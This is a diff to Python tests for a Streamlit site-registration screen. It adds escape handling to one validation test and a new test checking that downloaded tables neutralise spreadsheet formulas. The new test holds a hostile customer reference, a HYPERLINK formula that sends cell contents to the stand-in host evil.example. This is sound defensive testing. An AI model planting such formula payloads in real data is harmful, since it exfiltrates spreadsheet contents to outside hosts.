@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import threading
 import time
 
@@ -135,14 +136,14 @@ def test_numbers_outside_their_bounds_are_named_with_the_bound_and_not_sent(
     type_point(at, 95.0, -98.0)
     submit(at, peak_mw=6000.0)
     assert not at.exception
-    summary = " ".join(e.value for e in at.error)
+    summary = re.sub(r"\\(.)", r"\1", " ".join(e.value for e in at.error))
     assert "The site was not sent" in summary
     assert "Latitude must be between -90 and 90; it is 95." in summary
     assert "Requested peak load must be more than 0 and at most 5,000 MW" in summary
     assert any("5,000 MW" in c.replace("\\", "") for c in captions_in_form(at))
     assert len(tenant_site_ids(alpha_client)) == count
     submit(at, peak_mw=-50.0)
-    assert "it is -50.0 MW" in " ".join(e.value for e in at.error)
+    assert "it is -50.0 MW" in re.sub(r"\\(.)", r"\1", " ".join(e.value for e in at.error))
 
 
 def test_a_point_outside_the_data_is_warned_about_before_anything_is_created(
@@ -467,3 +468,22 @@ def test_assessment_page_alone_reads_through_the_plain_deployment(plain_env, alp
     assert not at.exception and not at.error
     labels = [button.proto.label for button in at.get("download_button")]
     assert any(label.startswith("Expert-review packet (") for label in labels), labels
+
+
+def test_the_sites_table_offers_no_formula_for_download(service_env, alpha_client):
+    """Streamlit offers the sites table as "Download as CSV" with the cells as drawn; a
+    customer reference a spreadsheet would run is drawn (and so downloaded) with a `'`."""
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    latitude, longitude = DEMO_POINTS["dual_certified"]
+    site = alpha_client.sites.create(
+        {
+            "requestedPeakLoadMw": 50.0,
+            "location": {"latitude": latitude, "longitude": longitude},
+            "customerReference": hostile,
+        },
+        idempotency_key="formula-reference-site",
+    )
+    at = open_screen()
+    frame = next(f.value for f in at.dataframe if "Customer reference" in f.value.columns)
+    cells = frame.loc[frame["Site"] == site.id, "Customer reference"].tolist()
+    assert cells == ["'" + hostile]
